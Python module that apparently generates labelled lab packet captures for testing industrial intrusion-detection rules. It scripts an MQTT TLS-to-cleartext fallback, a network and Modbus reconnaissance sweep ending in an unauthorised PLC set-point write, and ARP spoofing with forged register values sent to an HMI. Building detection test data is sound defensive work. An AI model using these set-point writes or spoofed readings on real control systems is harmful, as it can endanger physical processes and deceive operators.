"""Proof captures of rules about an order of events: TLS given up (MQ14), scan and write (X01), spoof and lie (X03)."""

from __future__ import annotations

import asyncio
import time

from pymodbus.client import AsyncModbusTcpClient

from compose.plant import attack_network as attack
from compose.plant import frames
from compose.plant.addresses import MODBUS_PORT, ip, mac
from compose.plant.catalogue import capture
from compose.plant.cell import modbus_cell
from compose.plant.lab import Lab
from compose.plant.modbus_device import Controller
from compose.plant.modbus_work import scan_units, session
from compose.plant.mqtt_broker import Broker, BrokerSettings
from compose.plant.mqtt_nodes import COMMAND_TOPIC, Node
from compose.plant.proofs_modbus import NORMAL, WARM_UP
from compose.plant.proofs_modbus_odd import forged_answer
from compose.plant.proofs_mqtt import NORMAL as MQTT_NORMAL

_VICTIMS = ("hmi", "plc1")


def _operate(node: Node, commands: int) -> None:
    node.subscribe("plant/line1/+/telemetry")
    for number in range(commands):
        node.publish(COMMAND_TOPIC, {"level_setpoint": 1950 + 50 * number}, qos=1)
        time.sleep(0.5)


@capture(
    "mqtt/tls-then-plain.pcap",
    "The operator's client works on port 8883; the broker comes back without it, and the client logs in on 1883.",
    "broker hmi",
    rules="MQ14",
    learn=MQTT_NORMAL,
    check={
        "tls.handshake.type==1": 1,
        "tcp.srcport==8883 && tcp.flags.reset==1": 1,
        "mqtt.msgtype==1 && mqtt.conflag.passwd==1": 1,
    },
)
def tls_then_plain(lab: Lab) -> None:
    """Work within TLS, one refused attempt, the same work in clear."""
    broker = Broker(lab, BrokerSettings(tls=True))
    encrypted = Node(lab, "hmi", "hmi-1", "operator", tls=True)
    _operate(encrypted.connect(), 4)
    encrypted.close()
    time.sleep(1)
    broker.stop()
    broker = Broker(lab)
    with lab.step("fallback from TLS to clear text", "hmi", "broker", ["T0830"], ["MQ14"]):
        try:
            Node(lab, "hmi", "hmi-1", "operator", tls=True).connect()
        except ConnectionRefusedError:
            time.sleep(1)
        plain = Node(lab, "hmi", "hmi-1", "operator")
        _operate(plain.connect(), 4)
        plain.close()
    broker.stop()


async def _overwrite_setpoint(client: AsyncModbusTcpClient) -> None:
    await client.read_holding_registers(100, count=3)
    await asyncio.sleep(1)
    await client.write_register(100, 2600)
    await client.write_coil(0, False)


@capture(
    "sequence/recon-then-write.pcap",
    "A stranger sweeps the network by ARP and for port 502, tries unit identifiers, and then writes a set-point.",
    "rtr plc1 plc2 gw opc broker edge hmi eng hist att",
    rules="X01 G04 G06 MB01 MB12",
    learn=NORMAL,
    check={
        "arp.opcode==1 && eth.src==b8:27:eb:10:00:66": 50,
        "ip.src==10.9.1.66 && tcp.flags.syn==1 && tcp.dstport==502": 10,
        "ip.src==10.9.1.66 && modbus.func_code==6": 1,
    },
)
def recon_then_write(lab: Lab) -> None:
    """Three kinds of looking around, three seconds of silence, two writes."""
    with modbus_cell(lab):
        time.sleep(WARM_UP)
        with lab.step("ARP sweep", "att", "10.9.1.0/24", ["T0846"], ["G06"]):
            lab["att"].call(attack.arp_sweep, "att")
        with lab.step("sweep of port 502", "att", "10.9.1.0/24", ["T0846", "T0888"], ["G04"]):
            lab["att"].call(attack.sweep, MODBUS_PORT, attack.control_hosts())
        with lab.step("unit identifier scan", "att", "gw", ["T0846"], ["MB12"]):
            lab["att"].run(session("gw", scan_units))
        time.sleep(3)
        with lab.step("write after reconnaissance", "att", "plc1", ["T0855", "T0836"], ["X01", "MB01"]):
            lab["att"].run(session("plc1", _overwrite_setpoint))
        time.sleep(WARM_UP)


def _lie(answers: int, patience: float) -> None:
    """Answer every second read of input registers that the poisoned HMI sends through here; the relay goes on.

    answers: how many reads are answered falsely; patience: seconds after which the attack ends in any case.
    """
    received = frames.mac_bytes(mac("att"))  # what the kernel relays is seen here too, with the controller's MAC
    end = time.monotonic() + patience
    seen = 0
    with frames.packet_socket("eth0", frames.EVERYTHING) as raw:
        raw.settimeout(1)
        while seen < 2 * answers and time.monotonic() < end:
            try:
                frame = raw.recv(2048)
            except TimeoutError:
                continue
            forged = forged_answer(frame, sender="att") if frame[:6] == received else None
            if forged is None:
                continue
            seen += 1
            if seen % 2:
                raw.send(forged)


@capture(
    "sequence/spoof-then-false-values.pcap",
    "An attacker takes the addresses of HMI and controller by ARP, relays for a while, then gives false values.",
    "plc1 hmi att",
    rules="X03 L01 MB16",
    learn=NORMAL,
    check={
        "arp.opcode==2 && eth.src==b8:27:eb:10:00:66": 8,
        "eth.src==b8:27:eb:10:00:66 && ip.src==10.9.1.11 && modbus.func_code==4 && modbus.regval_uint16==1234": 4,
    },
)
def spoof_then_false_values(lab: Lab) -> None:
    """Three seconds in the middle, five false answers to a slow controller's master, then the truth again."""
    with modbus_cell(lab, (), devices=()) as cell:
        cell.start_device("plc1", Controller("plc1", (ip("plc1"), MODBUS_PORT), delay=0.12))
        cell.poll("hmi", "plc1")
        time.sleep(WARM_UP)
        for victim in _VICTIMS:
            lab["att"].call(attack.learn_mac, victim)
        with lab.step("ARP spoofing, man in the middle", "att", "plc1", ["T0830"], ["L01"]):
            lab["att"].call(attack.arp_spoof, _VICTIMS, 6, 0.25)
        with lab.step("false values to the HMI", "att", "hmi", ["T0856", "T0832"], ["X03", "MB16"]):
            lab["att"].call(_lie, 5, 12.0)
        lab["att"].call(attack.arp_restore, _VICTIMS)
        time.sleep(1.5)
